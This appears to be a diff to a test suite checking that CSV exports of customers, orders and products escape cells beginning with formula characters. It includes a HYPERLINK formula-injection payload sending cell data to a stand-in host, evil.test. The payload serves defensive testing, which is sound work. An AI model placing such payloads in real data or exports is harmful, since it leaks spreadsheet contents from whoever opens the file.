@@ -19,6 +19,7 @@ beforeAll(async () => {
 });
 afterAll(async () => t?.close());
 
+const FABRIC = 'Fabric (product.metafields.custom.fabric)';
 const HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")';
 
 const exportOf = async (store: TestStore, resource: string) => {
@@ -49,6 +50,7 @@ describe('formulas in CSV exports', () => {
     const [from, to] = [await t.newStore(), await t.newStore()];
     const created = await t.call(from, 'POST', '/customers', {
       userName: 'mallory',
+      password: 'long-secret-1',
       firstName: HYPERLINK,
       lastName: '@SUM(1+1)',
       phoneNumber: '+16135550100',
@@ -102,12 +104,15 @@ describe('formulas in CSV exports', () => {
     });
     const order = await t.call(store, 'POST', '/orders', {
       customOrderId: '=1001',
-      cartItems: [{ productId: product.body.data.id, productName: '+Gift', quantity: 2, price: 12.5 }],
+      subTotal: 25,
+      totalAmount: 25,
+      cartItems: [{ productId: product.body.data.id, title: '+Gift', quantity: 2, price: 12.5 }],
       customFields: { Note: '@here' },
     });
     expect(order.status, JSON.stringify(order.body)).toBe(201);
     const [line] = rowsOf(await exportOf(store, 'orders'));
     expect(line).toMatchObject({
+      Total: '25',
       Name: "'=1001",
       'Lineitem name': "'+Gift",
       'Lineitem quantity': '2',
@@ -141,7 +146,7 @@ describe('round trip of generated strings that begin like formulas', () => {
               // tags are a comma-separated cell: a tag holds no comma
               tags: tags.map((tag) => tag.replaceAll(',', ' ')),
               handle: `p${i}`,
-              customFields: { 'Fabric (product.metafields.custom.fabric)': fabric, 'Cost per item': cost },
+              customFields: { [FABRIC]: fabric, 'Cost per item': cost },
             });
             expect(created.status, JSON.stringify(created.body)).toBe(201);
           }
@@ -150,8 +155,11 @@ describe('round trip of generated strings that begin like formulas', () => {
           expect(errors).toEqual([]);
           expect(job).toMatchObject({ status: 'succeeded', created: generated.length });
           const shape = (product: Record<string, unknown>) => {
-            const { title, vendor, productType, tags, description, customFields, handle } = product;
-            return { handle, title, vendor, productType, tags, description, customFields };
+            const { title, vendor, productType, tags, description, handle } = product;
+            // the keys set here (the import adds its own: Status, Published, Inventory tracker)
+            const fields = product.customFields as Record<string, unknown>;
+            const custom = [FABRIC, 'Cost per item'].map((name) => fields[name]);
+            return { handle, title, vendor, productType, tags, description, custom };
           };
           const byHandle = (all: Record<string, unknown>[]) =>
             all.map(shape).sort((a, b) => String(a.handle).localeCompare(String(b.handle)));
@@ -173,7 +181,12 @@ describe('round trip of generated strings that begin like formulas', () => {
         async (generated) => {
           const from = await t.newStore();
           for (const [i, { key, value, ...names }] of generated.entries()) {
-            const created = await t.call(from, 'POST', '/customers', { userName: `c${i}`, ...names, customFields: { [key]: value } });
+            const created = await t.call(from, 'POST', '/customers', {
+              userName: `c${i}`,
+              password: 'long-secret-1',
+              ...names,
+              customFields: { [key]: value },
+            });
             expect(created.status, JSON.stringify(created.body)).toBe(201);
           }
           const to = await t.newStore();
